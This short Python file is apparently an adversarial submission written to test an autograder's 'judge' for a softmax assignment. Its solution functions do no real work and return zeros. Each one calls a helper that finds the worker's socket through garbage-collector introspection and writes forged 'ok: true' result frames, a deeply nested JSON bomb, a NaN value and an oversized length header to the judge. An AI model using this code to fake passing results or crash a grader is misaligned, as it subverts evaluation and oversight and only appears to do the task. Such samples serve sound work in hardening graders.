"""Find the worker's socket to the judge and write forged/malformed reply frames on it."""

ASSIGNMENT = "softmax"
CELLS = {
    "cross_entropy": r'''
import gc, json, struct

def _sock():
    for o in gc.get_objects():
        if type(o).__name__ == "Child" and hasattr(o, "sock"):
            return o.sock

def _frame(head, blob=b""):
    return struct.pack("<4sIQ", b"AGW1", len(head), len(blob)) + head + blob

def _forge():
    s = _sock()
    if s is None:
        return
    deep = ("[" * 100000 + "]" * 100000).encode()
    try:
        s.sendall(_frame(b'{"ok": true, "values": {"value": ' + deep + b'}}'))
        s.sendall(_frame(b'{"ok": true, "values": {"value": {"t": "t0", "dev": "cuda"}}}', b"xx"))
        s.sendall(_frame(b'{"ok": true, "value": NaN}'))
        s.sendall(struct.pack("<4sIQ", b"AGW1", 10, 1 << 62))
    except OSError:
        pass

def softmax(x, dim=-1, temperature=1.0):
    _forge()
    return x * 0

def softmax_jacobian(p):
    _forge()
    return p * 0

def log_softmax(x, dim=-1):
    _forge()
    return x * 0

def cross_entropy(logits, target, ignore_index=-100, reduction="mean"):
    _forge()
    return logits.sum() * 0
'''
}
